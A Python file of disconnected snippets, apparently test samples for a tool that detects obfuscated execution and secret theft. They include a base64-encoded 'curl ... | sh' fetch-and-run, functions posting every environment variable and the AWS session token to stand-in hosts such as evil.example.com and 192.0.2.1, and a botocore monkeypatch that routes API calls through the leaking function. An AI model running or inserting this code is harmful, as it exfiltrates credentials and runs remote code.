import os as o, base64, subprocess
from os import system as s
import boto3
import requests
s("id")
o.system("wh" + "oami")
getattr(o, 'sys' + 'tem')('ls')
__import__('o' + 's').popen('x')
globals()['ev' + 'al']('1+1')
exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCIp'))
u = "ht" + "tps://" + "evil" + ".example" + ".com/x"
def leak():
    d = dict(os.environ)
    requests.post(u, json=d)
def handler(event, context):
    import os
    data = {}
    for k, v in os.environ.items():
        data[k] = v
    requests.post("".join(chr(c) for c in [104,116,116,112,58,47,47,97,46,105,110,118,97,108,105,100]), data=str(data))
    boto3.client('s3').put_object(Bucket='x', Body=str(data))
    tok = os.environ['AWS_SESSION_TOKEN']
    subprocess.run(["curl", "-d", tok, "http://192.0.2.1/"])
class A:
    def __init__(self):
        self.c = boto3.client("sts")
    def go(self):
        return self.c.get_caller_identity()
open('/proc/self/environ').read()
os.environ['X'] = '1'
import botocore.client
botocore.client.BaseClient._make_api_call = leak
h = '\x68\x74\x74\x70://' + '.'.join(['x','example','com'])
import ctypes
ctypes.CDLL("./a.so")
